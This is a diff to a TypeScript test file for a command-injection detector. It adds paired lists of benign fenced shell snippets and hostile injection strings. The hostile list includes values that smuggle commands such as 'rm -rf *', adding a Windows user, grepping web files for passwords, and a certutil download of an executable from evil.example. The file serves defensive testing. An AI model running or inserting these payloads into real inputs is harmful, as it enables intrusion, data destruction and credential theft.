@@ -1,4 +1,4 @@
-// Lines of documents beside commands behind a separator that begins a line: each pair of lists is one decision of the
+// Lines of documents beside commands that break out of values in them: each pair of lists is one decision of the
 // detector of command injection, at sensitivity 1, in a leaf of JSON.
 
 import { describe, expect, test } from 'vitest'
@@ -12,6 +12,10 @@ const refused = (text: string): boolean => engine.text('json', 'value', 'body.no
 /** A text of many lines, whatever stands in the last ones. */
 const document = (last: string): string =>
   `Dear all,\nthe release of this week is out.\nPlease read the notes.\nThey are long.\nThank you${last}`
+
+/** A line of code that a document shows. */
+const fenced = (line: string): string =>
+  `Some notes of ours, as they were written.\n\n\`\`\`\n${line}\n\`\`\`\n\nThat is all.`
 
 interface Pair {
   readonly decision: string
@@ -63,6 +67,34 @@ const pairs: readonly Pair[] = [
       '<@U1|whoami> is here',
       '<@U1|id>',
       'x <@U1 |cal>; ls -la',
+    ],
+  },
+  {
+    decision:
+      'what a closed fence shows is run from its start; a value and a separator in it is no code of anybody',
+    honest: [
+      fenced('cd app; make test'),
+      fenced('npm ci && npm test'),
+      fenced('for f in *.txt; do sort "$f"; done | uniq'),
+      fenced(
+        `curl "https://example.com/$(ls | grep "x" | cut -d'"' -f 2)" -o "$HOME/x" && sudo installer -pkg x`,
+      ),
+      fenced('echo "a; b" | sort'),
+      fenced(`awk '{\n  print $1\n}' a.txt | sort`),
+      fenced('VERSION=1; curl https://example.com/x'),
+      fenced('build | ls'),
+      fenced('a.sh && rm -rf dist'),
+      fenced('user@host:~$ cat a.txt | grep b'),
+    ],
+    hostile: [
+      fenced('; id'),
+      fenced('| whoami'),
+      fenced('127.0.0.1; curl http://192.0.2.7/x'),
+      fenced('127.0.0.1 && net user foo P@ss /add'),
+      fenced('4299 || rm -rf * >/dev/null'),
+      fenced("a.txt'; grep -r pass /var/www"),
+      fenced('a@b.example | certutil -urlcache -f http://evil.example/x x.exe'),
+      fenced('a.txt"); sleep 10;'),
     ],
   },
   {
